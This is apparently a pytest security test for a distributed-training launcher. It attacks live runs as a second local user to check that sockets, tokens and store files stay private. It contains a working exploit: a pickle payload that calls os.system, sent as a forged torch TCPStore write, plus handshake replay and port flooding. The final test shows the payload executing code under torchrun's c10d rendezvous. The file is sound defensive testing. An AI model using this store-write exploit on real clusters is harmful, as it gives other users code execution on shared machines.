"""What another user of the machine can do to sockets and files of a run, by real attacks on real runs."""

import json
import os
import signal
import socket
import stat
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import msgspec
import psutil
import pytest

from allranks.launch.channel import authenticate
from allranks.launch.channel_protocol import Endpoint, OrderRequest
from allranks.rundir.files import read_json
from allranks.rundir.heartbeat import STORE_VARIABLE
from tests.conftest import tiny_spec, write_rows
from tests.dist.harness import Background, free_port, slow_down, step_events, until, write_spec
from tests.other_users import OTHER_USER, needs_other_user, open_up, other_python, run_as

pytestmark = [pytest.mark.dist, needs_other_user]
LOOPBACK = ("127.0.0.1", "::1")
# Runs as the other user, with the standard library alone. Connects to every port, and says what the control channel
# answered.
ATTACK = r"""
import base64, json, os, pickle, socket, struct, sys, time
asked = json.load(sys.stdin)

class Payload:
    def __reduce__(self):
        return os.system, ("id > " + asked["marker"],)

def text(data):
    return struct.pack("<Q", len(data)) + data

def store_write(key):  # torch's TCPStore: VALIDATE with its magic number, then SET
    value = base64.b64encode(pickle.dumps(Payload()))
    return b"\0" + struct.pack("<I", 0x3C85F7CE) + b"\1" + text(b"/" + key.encode()) + text(value)

def read(sock, seconds):
    sock.settimeout(seconds)
    try:
        return sock.recv(65536)
    except socket.timeout:
        return b"nothing"
    except OSError:
        return b""

strangers = {
    "nothing": b"",
    "garbage": os.urandom(5000),
    "zeros": bytes(100000),
    "pickle": pickle.dumps(Payload()) * 50,
    "http": b"GET / HTTP/1.1\r\nHost: localhost\r\n\r\n",
    "half a handshake": os.urandom(20),
    "wrong token": os.urandom(64),
    "wrong token, huge frame": os.urandom(64) + b"\xff" * 4000,
    "replay": bytes.fromhex(asked["replay"]),
    **{"store key " + key: store_write(key) for key in asked["keys"]},
}
found = {"answers": {}, "connected": 0}
for port in asked["ports"]:
    for name, data in strangers.items():
        try:
            with socket.create_connection(("127.0.0.1", port), 5) as sock:
                found["connected"] += 1
                channel = name != "nothing" and read(sock, 1.0 if port == asked["channel"] else 0.02)
                try:
                    sock.sendall(data)
                except OSError:
                    pass
                if channel and channel.startswith(b"allranks-channel"):
                    found["answers"][name] = read(sock, 2.0).hex()
        except OSError:
            pass
silent = []
for number in range(300):
    try:
        silent.append(socket.create_connection(("127.0.0.1", asked["ports"][number % len(asked["ports"])]), 5))
    except OSError:
        pass
found["silent"] = len(silent)
time.sleep(2)
print(json.dumps(found))
"""
# Runs as the other user: what can be read of files and processes.
LOOK = r"""
import json, os, sys
asked = json.load(sys.stdin)
found = {}
for path in asked["paths"]:
    try:
        found[path] = os.listdir(path) if os.path.isdir(path) else open(path, "rb").read(1).hex()
    except OSError as error:
        found[path] = type(error).__name__
words = b""
for pid in filter(str.isdigit, os.listdir("/proc")):
    try:
        words += open("/proc/" + pid + "/cmdline", "rb").read()
    except OSError:
        pass
found["token"] = asked["token"].encode() in words
print(json.dumps(found))
"""
PROGRAM = """
import os, sys, time, torch, torch.distributed as dist
dist.init_process_group("gloo")
x = torch.ones(1)
print("READY", flush=True)
while True:
    more = torch.tensor(float(not os.path.exists(sys.argv[1])))
    dist.broadcast(more, 0)
    if not more:
        break
    dist.all_reduce(x)
    time.sleep(0.05)
print("COMPLETE", flush=True)
"""


def as_other_user(code: str, asked: dict[str, Any]) -> dict[str, Any]:
    done = run_as(OTHER_USER, [other_python(), "-c", code], input_text=json.dumps(asked), timeout_s=90)
    assert done.returncode == 0, done.stderr
    return json.loads(done.stdout)


def listeners(pids: list[int]) -> set[tuple[str, int]]:
    """Addresses and ports on which processes listen."""
    found = set()
    for pid in pids:
        try:
            connections = psutil.Process(pid).net_connections("inet")
        except psutil.Error:
            continue
        found |= {(c.laddr.ip, c.laddr.port) for c in connections if c.status == psutil.CONN_LISTEN}
    return found


def recorded_handshake(endpoint: Endpoint) -> bytes:
    """What a client that knows the token sent on one connection, and the order that it would have given next."""
    sent: list[bytes] = []

    class Recorded(socket.socket):
        def sendall(self, data: bytes, flags: int = 0) -> None:  # type: ignore[override]
            sent.append(bytes(data))
            super().sendall(data, flags)

    with Recorded() as sock:
        sock.settimeout(5)
        sock.connect((endpoint.address, endpoint.port))
        sealer, _ = authenticate(sock, endpoint)
    return b"".join([*sent, sealer.seal(msgspec.json.encode(OrderRequest(order="kill", reason="a replay")))])


Step = Callable[[Background], None]


class Attacked:
    """A run, what it shows to another user, and how it ended after the attacks of that user."""

    def __init__(self, folder: Path, spec: dict[str, Any], started: Step, end: Step) -> None:
        job = Background(folder, "run", str(write_spec(folder, spec)))
        try:
            started(job)
            self.run = job.run
            pids = [job.process.pid, *job.all_pids()]
            self.listeners = listeners(pids)
            environments = [psutil.Process(pid).environ() for pid in pids]
            self.stores = {e[STORE_VARIABLE] for e in environments if STORE_VARIABLE in e}
            self.master_ports = {int(e["MASTER_PORT"]) for e in environments if "MASTER_PORT" in e}
            self.channel_mode = stat.S_IMODE(job.run.channel(1).stat().st_mode)
            endpoint = msgspec.convert(read_json(job.run.channel(1)), Endpoint)
            stores = [Path(store.removeprefix("file:")) for store in self.stores]
            paths = [job.run.root, *(store.parent for store in stores), job.run.channel(1), *stores]
            self.paths = [*map(str, paths), *(f"/proc/{pid}/environ" for pid in pids)]
            self.seen = as_other_user(LOOK, {"paths": self.paths, "token": endpoint.token})
            self.marker = folder / "marker"
            ports = [endpoint.port, *sorted({port for _, port in self.listeners} - {endpoint.port})]
            keys = [f"torch.rendezvous.{job.run.name}", f"torch.rendezvous.{job.run.name}.1"]
            replay = recorded_handshake(endpoint).hex()
            attack = {"ports": ports, "channel": endpoint.port, "keys": keys, "replay": replay}
            self.did = as_other_user(ATTACK, {**attack, "marker": str(self.marker)})
            end(job)
            self.code, self.out = job.wait()
            self.logs = "".join(path.read_text() for path in job.run.rank_logs(1).values())
        finally:
            job.stop()


@pytest.fixture(scope="module")
def place(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A folder that every user can pass, so that only the run's own modes protect it."""
    folder = tmp_path_factory.mktemp("network")
    open_up(folder)
    folder.chmod(0o755)
    return folder


def stop_after_two_steps(job: Background) -> None:
    """Ask for the end once the ranks have trained on, so that they are known to have outlived the attacks."""
    done = len(step_events(job.run, 0))
    until(lambda: len(step_events(job.run, 0)) >= done + 2 or job.process.poll() is not None)
    job.signal(signal.SIGTERM)


@pytest.fixture(scope="module")
def training(place: Path) -> Attacked:
    folder = place / "training"
    folder.mkdir()
    write_rows(folder / "rows.json", 40)
    spec = tiny_spec(folder / "rows.json", folder, eval={"samples": 0, "at_end": False}, checkpoint={"at_end": False})
    spec["train"]["max_steps"] = 1_000_000
    spec["cluster"]["procs_per_node"] = 2
    with pytest.MonkeyPatch.context() as environment:
        slow_down(environment, 0.1)
        return Attacked(folder, spec, lambda job: job.until_step(2), stop_after_two_steps)


@pytest.fixture(scope="module")
def script(place: Path) -> Attacked:
    folder = place / "script"
    folder.mkdir()
    (folder / "own.py").write_text(PROGRAM)

    def started(job: Background) -> None:
        until(lambda: sum("READY" in path.read_text() for path in job.run.rank_logs(1).values()) == 2)

    own = {"path": str(folder / "own.py"), "args": [str(folder / "end")]}
    spec = {"name": "own", "script": own, "run_root": str(folder / "runs"), "cluster": {"procs_per_node": 2}}
    return Attacked(folder, spec, started, lambda job: (folder / "end").touch())


def test_a_run_on_one_node_listens_on_loopback_alone(training: Attacked, script: Attacked) -> None:
    """Channel, ranks' connections, the store of a program; that of a training nobody can reach."""
    for attacked in (training, script):
        assert len(attacked.listeners) >= 3, "the channel and both ranks listen"
        assert {address for address, _ in attacked.listeners} <= set(LOOPBACK)
    (store,) = training.stores
    assert store.startswith("file:") and training.master_ports == {0}
    (port,) = script.master_ports
    assert {address for address, number in script.listeners if number == port} == {"127.0.0.1"}


def test_the_token_and_the_store_are_readable_by_the_owner_alone(training: Attacked, script: Attacked) -> None:
    """Neither in files and folders, nor in the environment or the command line of a process."""
    for attacked in (training, script):
        assert attacked.channel_mode == 0o600
        assert {attacked.seen[path] for path in attacked.paths} == {"PermissionError"}
        assert attacked.seen["token"] is False


def test_the_channel_answers_nobody_who_does_not_know_the_token(training: Attacked, script: Attacked) -> None:
    for attacked in (training, script):
        assert set(attacked.did["answers"]) >= {"garbage", "wrong token", "wrong token, huge frame", "replay", "http"}
        answers = {name: answer for name, answer in attacked.did["answers"].items() if answer != b"nothing".hex()}
        assert set(answers.values()) == {""}, "closed without one byte of an answer"
        assert attacked.did["answers"]["half a handshake"] == b"nothing".hex()


def test_attacks_on_every_port_neither_end_a_run_nor_execute_anything(training: Attacked, script: Attacked) -> None:
    for attacked in (training, script):
        assert attacked.did["connected"] > 30 and attacked.did["silent"] >= 250
        assert not attacked.marker.exists()
    assert training.code == 1 and "(allranks received SIGTERM)" in training.out, training.out + training.logs
    assert read_json(training.run.metrics)["status"] == "stopped"
    assert script.code == 0, script.out + script.logs
    assert read_json(script.run.metrics)["status"] == "succeeded"
    assert script.logs.count("COMPLETE") == 2


@pytest.fixture
def c10d(place: Path) -> Iterator[int]:
    """A program under torchrun with its c10d rendezvous; its port."""
    (place / "sleep.py").write_text("import time; print('READY', flush=True); time.sleep(60)")
    port, log = free_port(), place / "torchrun.log"
    words = ["--nnodes=1", "--nproc-per-node=1", "--rdzv-backend=c10d", "--rdzv-id=it"]
    words += [f"--rdzv-endpoint=127.0.0.1:{port}", str(place / "sleep.py")]
    command, env = [sys.executable, "-m", "torch.distributed.run", *words], {**os.environ, "OMP_NUM_THREADS": "1"}
    process = subprocess.Popen(command, stdout=log.open("w"), stderr=subprocess.STDOUT, env=env)
    until(lambda: "READY" in log.read_text() or process.poll() is not None)
    assert process.poll() is None, log.read_text()
    yield port
    process.terminate()
    try:
        process.wait(15)
    finally:
        process.kill()


def test_the_same_attack_executes_code_under_torchruns_c10d_rendezvous(place: Path, c10d: int) -> None:
    """Proof that the attack above works: torchrun's agent reads a pickle from a store that any user can write to."""
    marker = place / "c10d-marker"
    ask = {"ports": [c10d], "channel": 0, "keys": ["torch.rendezvous.it"], "marker": str(marker), "replay": ""}
    as_other_user(ATTACK, ask)
    deadline = time.monotonic() + 30  # the agent reads it every 5 s
    while not (marker.exists() and marker.read_text()) and time.monotonic() < deadline:
        time.sleep(0.2)
    assert "uid=0" in marker.read_text()
